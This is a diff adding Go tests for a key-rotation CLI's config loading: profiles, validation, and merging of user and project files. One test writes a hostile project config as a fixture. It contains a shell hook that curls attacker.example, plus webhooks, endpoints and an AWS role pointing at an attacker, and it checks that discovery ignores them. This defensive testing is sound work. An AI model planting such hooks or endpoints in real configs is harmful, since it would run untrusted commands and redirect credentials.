@@ -0,0 +1,186 @@
+package config_test
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/kmesiab/go-key-rotator-cli/config"
+)
+
+func TestActiveProfile(t *testing.T) {
+	cfg, err := config.Load(writeConfig(t, `
+profile: staging
+profiles:
+  staging:
+    region: us-west-2
+    path_prefix: staging/
+  prod:
+    region: us-east-1
+    key_size: 4096
+    output: json
+`))
+	require.NoError(t, err)
+
+	profile, err := cfg.ActiveProfile("")
+	require.NoError(t, err)
+	assert.Equal(t, "us-west-2", profile.Region)
+	assert.Equal(t, "staging/", profile.PathPrefix)
+
+	profile, err = cfg.ActiveProfile("prod")
+	require.NoError(t, err)
+	assert.Equal(t, 4096, profile.KeySize)
+	assert.Equal(t, "json", profile.Output)
+
+	_, err = cfg.ActiveProfile("dev")
+	assert.ErrorContains(t, err, "profile 'dev' not found")
+	assert.Equal(t, []string{"prod", "staging"}, cfg.ProfileNames())
+}
+
+func TestActiveProfileWithoutProfiles(t *testing.T) {
+	cfg, err := config.Load("")
+	require.NoError(t, err)
+
+	profile, err := cfg.ActiveProfile("")
+	require.NoError(t, err)
+	assert.Equal(t, config.Profile{}, profile)
+}
+
+func TestProfileValidate(t *testing.T) {
+	assert.NoError(t, config.Profile{Backend: "ssm", KeyType: "rsa", KeySize: 2048}.Validate())
+	assert.ErrorContains(t, config.Profile{Backend: "vault"}.Validate(), "unsupported backend")
+	assert.ErrorContains(t, config.Profile{KeyType: "ed25519"}.Validate(), "unsupported key type")
+	assert.ErrorContains(t, config.Profile{KeySize: -1}.Validate(), "invalid key size")
+	assert.NoError(t, config.Profile{RetryMode: "adaptive", MaxAttempts: 5, Timeout: time.Minute}.Validate())
+	assert.ErrorContains(t, config.Profile{RetryMode: "eventually"}.Validate(), "unsupported retry mode")
+	assert.ErrorContains(t, config.Profile{MaxAttempts: -1}.Validate(), "invalid max attempts")
+	assert.ErrorContains(t, config.Profile{Timeout: -time.Second}.Validate(), "invalid timeout")
+}
+
+func TestDiscover(t *testing.T) {
+	home := t.TempDir()
+	project := t.TempDir()
+
+	t.Setenv("XDG_CONFIG_HOME", home)
+	chdir(t, project)
+
+	cfg, err := config.Discover()
+	require.NoError(t, err)
+	assert.Empty(t, cfg.Files)
+
+	userFile := filepath.Join(home, config.UserFile)
+	require.NoError(t, os.MkdirAll(filepath.Dir(userFile), 0o700))
+	require.NoError(t, os.WriteFile(userFile, []byte(`
+profile: staging
+profiles:
+  staging:
+    region: us-west-2
+  prod:
+    region: us-east-1
+`), 0o600))
+	require.NoError(t, os.WriteFile(config.ProjectFile, []byte(`
+profiles:
+  staging:
+    path_prefix: /project/
+`), 0o600))
+
+	cfg, err = config.Discover()
+	require.NoError(t, err)
+	assert.Equal(t, []string{userFile, config.ProjectFile}, cfg.Files)
+
+	// The project file overrides the user file, profile by profile
+	profile, err := cfg.ActiveProfile("")
+	require.NoError(t, err)
+	assert.Equal(t, "/project/", profile.PathPrefix)
+	assert.Equal(t, "us-west-2", profile.Region)
+
+	profile, err = cfg.ActiveProfile("prod")
+	require.NoError(t, err)
+	assert.Equal(t, "us-east-1", profile.Region)
+}
+
+func TestDiscoverIgnoresTrustedSettingsInTheProjectFile(t *testing.T) {
+	home := t.TempDir()
+
+	t.Setenv("XDG_CONFIG_HOME", home)
+	chdir(t, t.TempDir())
+
+	userFile := filepath.Join(home, config.UserFile)
+	require.NoError(t, os.MkdirAll(filepath.Dir(userFile), 0o700))
+	require.NoError(t, os.WriteFile(userFile, []byte(`
+hooks:
+  post_rotate:
+    - command: ["/usr/local/bin/reload"]
+audit:
+  file: /var/log/go-rotate/audit.log
+profile: prod
+profiles:
+  prod:
+    region: us-east-1
+    aws_profile: rotator
+    role_arn: arn:aws:iam::111111111111:role/rotator
+`), 0o600))
+	require.NoError(t, os.WriteFile(config.ProjectFile, []byte(`
+hooks:
+  pre_rotate:
+    - command: ["sh", "-c", "curl https://attacker.example"]
+webhooks:
+  - url: https://attacker.example
+audit:
+  file: /tmp/attacker.log
+profile: dev
+profiles:
+  prod:
+    region: eu-west-1
+    aws_profile: attacker
+    role_arn: arn:aws:iam::222222222222:role/attacker
+    external_id: attacker
+    mfa_serial: arn:aws:iam::222222222222:mfa/attacker
+    endpoint_url: https://attacker.example
+    path_prefix: /project/
+  dev:
+    region: eu-west-1
+    endpoint_url: https://attacker.example
+`), 0o600))
+
+	cfg, err := config.Discover()
+	require.NoError(t, err)
+
+	assert.Empty(t, cfg.Hooks.PreRotate)
+	assert.Equal(t, []string{"/usr/local/bin/reload"}, cfg.Hooks.PostRotate[0].Command)
+	assert.Empty(t, cfg.Webhooks)
+	assert.Equal(t, "/var/log/go-rotate/audit.log", cfg.Audit.File)
+	assert.Equal(t, "prod", cfg.Profile)
+
+	prod, err := cfg.ActiveProfile("prod")
+	require.NoError(t, err)
+	assert.Equal(t, config.Profile{
+		Region:     "us-east-1",
+		AWSProfile: "rotator",
+		RoleARN:    "arn:aws:iam::111111111111:role/rotator",
+		PathPrefix: "/project/",
+	}, prod, "only the path prefix applies")
+
+	dev, err := cfg.ActiveProfile("dev")
+	require.NoError(t, err)
+	assert.Equal(t, config.Profile{}, dev)
+
+	// The same file is trusted when it is chosen with --config
+	cfg, err = config.Load(config.ProjectFile)
+	require.NoError(t, err)
+	assert.Len(t, cfg.Webhooks, 1)
+}
+
+func chdir(t *testing.T, dir string) {
+	t.Helper()
+
+	wd, err := os.Getwd()
+	require.NoError(t, err)
+	require.NoError(t, os.Chdir(dir))
+
+	t.Cleanup(func() { _ = os.Chdir(wd) })
+}